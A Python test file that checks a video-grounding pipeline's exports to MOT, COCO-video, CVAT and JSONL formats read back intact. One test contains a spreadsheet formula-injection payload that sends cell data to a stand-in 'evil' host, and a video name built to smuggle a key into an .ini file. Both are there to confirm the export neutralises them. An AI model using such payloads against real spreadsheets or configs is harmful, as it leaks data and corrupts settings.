"""What other tools open: written from real part files, read back by the sources that read those tools' files."""

from __future__ import annotations

import csv
import json
import tracemalloc
from collections import Counter
from fractions import Fraction

import numpy as np
import pyarrow as pa
import pytest

from pipelines.archive.answers import ANSWERS
from pipelines.archive.export import by_video, export, file_names, files_of
from pipelines.core import storage
from pipelines.core.results import Results
from spacevllm.data.instance import Instance, instance_id
from spacevllm.data.sources import SourceFiles, read

NAMES = ("/a/clip.mp4", "/b/clip.mp4", "/a/other.mp4")
TRICKY = 'who says "hi" & <waves>, ü?'


def row(video, question, begin=8, end=20, **changes):
    boxes = [
        {"frame": f, **dict(zip(("x1", "y1", "x2", "y2"), np.float32([f, 2.25, f + 30.5, 40]).tolist(), strict=True))}
        for f in range(begin, end)
    ]
    values = {"id": f"{video} {question}", "video": video, "question": question, "task": "stvg", "status": "ok"}
    values |= {"error": "", "begin_s": begin / 8, "end_s": end / 8, "begin_frame": begin, "end_frame": end}
    values |= {"boxes": boxes, "confidence": 0.5, "answer": "words", "fps": 8.0, "num_frames": 24, "width": 64}
    return values | {"height": 48, "duration_s": 3.0, "sampled_boxes": [], "fingerprint": "f"} | changes


@pytest.fixture
def rows():
    failed = {"status": "failed", "error": "empty_file: no bytes", "begin_s": None, "end_s": None, "boxes": None}
    return [
        row(NAMES[0], "a dog"),
        row(NAMES[0], TRICKY, begin=20, end=24),
        row(NAMES[1], "a dog", begin=0),
        row(NAMES[2], "a dog", **failed),
    ]


@pytest.fixture
def parts(tmp_path, rows):
    """A video's rows lie in two files, as after a run with a new question."""
    parts = Results(str(tmp_path / "out" / "tubes"))
    for table in (rows[:1] + rows[2:], rows[1:2], [row(NAMES[0], "not wanted now")]):
        parts.write(pa.Table.from_pylist(table, schema=ANSWERS))
    return parts


@pytest.fixture
def out(tmp_path, parts, rows):
    wanted = {r["id"]: r["fingerprint"] for r in rows}
    counts = export(parts, wanted, str(tmp_path / "out"), ("mot", "coco-video", "cvat", "jsonl"))
    assert counts == {"mot": 3, "coco-video": 3, "cvat": 3, "jsonl": 4}
    return tmp_path / "out" / "exports"


def came_back(name, rows, **files):
    """What the source reads, as the rows were."""
    found = sorted(read(name, SourceFiles(split="train", **files)), key=lambda instance: instance.media)
    assert all(isinstance(instance, Instance) for instance in found), found
    for instance, wanted in zip(found, rows, strict=True):
        assert instance.question == wanted["question"]
        assert (instance.begin_frame, instance.end_frame) == (wanted["begin_frame"], wanted["end_frame"])
        assert (instance.begin_s, instance.end_s) == (wanted["begin_s"], wanted["end_s"])
        assert (instance.num_frames, instance.width, instance.height, instance.fps) == (24, 64, 48, 8)
        assert instance.box_frames == [box["frame"] for box in wanted["boxes"]]
        np.testing.assert_allclose(instance.boxes, [list(box.values())[1:] for box in wanted["boxes"]], atol=0.01)
    return found


def test_cvat_comes_back(out, rows):
    names = [f"clip-{instance_id(video)[:8]}.mp4" for video in NAMES[:2]]  # two videos are called the same
    assert {path.name for path in (out / "cvat").iterdir()} == {f"{name}.xml" for name in names}
    found = came_back("cvat", rows[:2], annotations=out / "cvat" / f"{names[0]}.xml", fps=Fraction(8))
    assert found[0].media == f"media/{names[0]}"
    came_back("cvat", rows[2:3], annotations=out / "cvat" / f"{names[1]}.xml", fps=Fraction(8))


def test_coco_video_comes_back(out, rows):
    found = came_back("coco_video", rows[:3], annotations=out / "coco_video.json")
    assert [instance.media for instance in found] == [NAMES[0], NAMES[0], NAMES[1]]


def test_mot_comes_back(out, rows):
    folder = out / "mot" / f"clip-{instance_id(NAMES[0])[:8]}.mp4"
    came_back("mot", rows[:2], annotations=folder, questions=folder / "questions.csv")
    assert (folder / "gt/gt.txt").read_text().splitlines()[0] == "9,1,8.0,2.25,30.5,37.75,1,1,1"


@pytest.mark.parametrize(("fps", "written"), [(25.0, "25"), (30000 / 1001, repr(30000 / 1001))])
def test_mot_of_a_video_named_100_percent(tmp_path, rows, fps, written):
    """Readers of seqinfo.ini call ``int`` on a whole rate; ``%`` means something in some .ini files."""
    parts, asked = Results(str(tmp_path / "tubes")), row("/a/100%(of).mp4", "a dog", fps=fps)
    parts.write(pa.Table.from_pylist([asked], schema=ANSWERS))
    export(parts, {asked["id"]: "f"}, str(tmp_path), ("mot",))
    folder = tmp_path / "exports/mot/100%(of).mp4"
    assert f"\nframeRate={written}\n" in (folder / "seqinfo.ini").read_text()
    [found] = read("mot", SourceFiles(folder, "train", questions=folder / "questions.csv"))
    assert isinstance(found, Instance) and found.media == "media/100%(of).mp4" and found.fps == pytest.approx(fps)


def test_mot_files_carry_nothing_into_a_spreadsheet_or_an_ini_file(tmp_path):
    """A formula as a question, a key in a video's name; both come back as they were, but for the line end."""
    formula, name = '=HYPERLINK("http://evil/?"&A1,"click")', "/a/clip\nframeRate=1\x85.mp4"
    parts, asked = Results(str(tmp_path / "tubes")), row(name, formula)
    parts.write(pa.Table.from_pylist([asked], schema=ANSWERS))
    export(parts, {asked["id"]: "f"}, str(tmp_path), ("mot", "cvat"))
    [folder] = (tmp_path / "exports/mot").iterdir()
    with (folder / "questions.csv").open(newline="") as file:
        assert list(csv.reader(file))[1][1] == f"'{formula}"
    assert (folder / "seqinfo.ini").read_text().splitlines().count("frameRate=8") == 1
    [found] = read("mot", SourceFiles(folder, "train", questions=folder / "questions.csv"))
    assert found.question == formula and found.media == "media/clip frameRate=1 .mp4" and found.fps == 8


def test_a_name_for_each_video_inside_the_folder():
    odd = [
        "s3://b/a/..",
        "s3://b/./.",
        "s3://b/.hidden.mp4",
        f"/a/{'x' * 250}.mp4",
        "http://h/?v=1",
        "s3://b/nul\0.mp4",
    ]
    plain = {
        "/a/what?.mp4": "what?.mp4",
        "s3://b/what?.mp4": f"what?-{instance_id('s3://b/what?.mp4')[:8]}.mp4",
        "https://h/clip.mp4?token=/x/y": "clip.mp4",
        "/a/a.mp4": "a.mp4",
    }
    plain["/a/what?.mp4"] = f"what?-{instance_id('/a/what?.mp4')[:8]}.mp4"
    taken = "/c/" + plain["/a/what?.mp4"]  # what another video's name became
    names = file_names([*odd, *plain, taken])
    assert len(set(names.values())) == len(names)
    assert all("/" not in name and not name.startswith(".") and len(name) < 250 for name in names.values())
    assert {video: names[video] for video in list(plain)[1:]} == dict(list(plain.items())[1:])


def test_jsonl_has_every_answer_and_its_reason(out, rows):
    lines = [json.loads(line) for line in (out / "tubes.jsonl").read_text().splitlines()]
    assert sorted(line["id"] for line in lines) == sorted(r["id"] for r in rows)
    line = next(line for line in lines if line["question"] == TRICKY)
    assert line["boxes"][0] == [20, 20, 2.25, 50.5, 40] and len(line["boxes"]) == 4
    assert [line["error"] for line in lines if line["status"] == "failed"] == ["empty_file: no bytes"]


def test_a_second_export_holds_only_what_is_asked_now(out, tmp_path, parts, rows):
    assert export(parts, {rows[2]["id"]: "f"}, str(tmp_path / "out"), ("cvat", "mot", "coco-video"))["cvat"] == 1
    assert [path.name for path in (out / "cvat").iterdir()] == ["clip.mp4.xml"]
    assert not (out / "mot" / "clip.mp4" / "gt" / "gt.txt").read_text().startswith("9,")
    assert len(json.loads((out / "coco_video.json").read_text())["videos"]) == 1


def test_a_video_in_two_files_comes_once_and_whole(parts, rows):
    wanted = {r["id"]: "f" for r in rows}
    found = list(by_video(files_of(parts, wanted), wanted))
    assert {video: answers.table.num_rows for video, answers in found} == Counter(r["video"] for r in rows)
    assert len(found) == 3


def test_what_is_held_does_not_grow_with_the_archive(tmp_path):
    """Asked twice, in blocks that do not match, and named so that most videos wait for their second file."""
    videos, frames = [f"/a/{number:02d}.mp4" for number in range(40)], 200
    parts, wanted = Results(str(tmp_path / "tubes")), {}
    for question, block in (("a dog", 4), ("a cat", 5)):
        for start in range(0, len(videos), block):
            rows = [row(v, question, 0, frames, num_frames=frames) for v in videos[start : start + block]]
            parts.write(pa.Table.from_pylist(rows, schema=ANSWERS))
            wanted |= {r["id"]: "f" for r in rows}
    tracemalloc.start()
    before = pa.total_allocated_bytes()
    export(parts, wanted, str(tmp_path), ("jsonl", "coco-video"))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    most = max(pa.total_allocated_bytes() for _ in by_video(files_of(parts, wanted), wanted))
    boxes = 2 * len(videos) * frames
    assert peak < 308 * boxes / 10  # what they take in all as Python's dicts
    assert most - before < 20 * boxes / 3


def test_no_answers_give_files_that_open(tmp_path, rows):
    parts = Results(storage.join(str(tmp_path), "tubes"))
    parts.write(pa.Table.from_pylist(rows[3:], schema=ANSWERS))
    assert export(parts, {rows[3]["id"]: "f"}, str(tmp_path), ("coco-video",)) == {"coco-video": 0}
    assert json.loads((tmp_path / "exports/coco_video.json").read_text())["annotations"] == []


@pytest.fixture
def several(tmp_path):
    """One question, two things; the first one does it twice."""
    first, again, other = (row(NAMES[0], "every dog", *span) for span in ((0, 6), (12, 16), (14, 24)))
    own = ("begin_s", "end_s", "begin_frame", "end_frame", "boxes")
    more = [
        {name: tube[name] for name in own} | {"track": track, "confidence": confidence}
        for tube, track, confidence in ((again, 0, 0.4), (other, 1, 0.3))
    ]
    parts = Results(str(tmp_path / "out" / "tubes"))
    parts.write(pa.Table.from_pylist([first | {"more": more}, row(NAMES[0], "plain")], schema=ANSWERS))
    wanted = {f"{NAMES[0]} {question}": "f" for question in ("every dog", "plain")}
    counts = export(parts, wanted, str(tmp_path / "out"), ("mot", "coco-video", "cvat", "jsonl"))
    assert counts == {"mot": 3, "coco-video": 3, "cvat": 3, "jsonl": 2}
    return tmp_path / "out" / "exports"


def test_each_thing_is_a_track_and_two_spans_of_it_have_a_gap(several):
    dog = [*range(6), *range(12, 16)]
    expected = {"1": dog, "2": list(range(14, 24)), "3": list(range(8, 20))}
    mot = [line.split(",") for line in (several / "mot/clip.mp4/gt/gt.txt").read_text().splitlines()]
    for name, frames in expected.items():
        assert [int(line[0]) - 1 for line in mot if line[1] == name] == frames
    asked = (several / "mot/clip.mp4/questions.csv").read_text().splitlines()
    assert [line.split(",")[::3] for line in asked[1:]] == [["1", "0"], ["1", "12"], ["2", "14"], ["3", "8"]]
    coco = json.loads((several / "coco_video.json").read_text())
    for track, frames in zip(coco["annotations"], expected.values(), strict=True):
        assert [frame for frame, box in enumerate(track["bboxes"]) if box] == frames
    assert [track["score"] for track in coco["annotations"]] == [0.5, 0.3, 0.5]
    cvat = SourceFiles(several / "cvat/clip.mp4.xml", "train", fps=Fraction(8))
    assert [found.box_frames for found in read("cvat", cvat)] == list(expected.values())
    lines = [json.loads(line) for line in (several / "tubes.jsonl").read_text().splitlines()]
    assert [[tube["track"] for tube in line["more"] or []] for line in lines] == [[0, 1], []]
    assert lines[0]["more"][1]["boxes"][0][:2] == [14, 14.0]
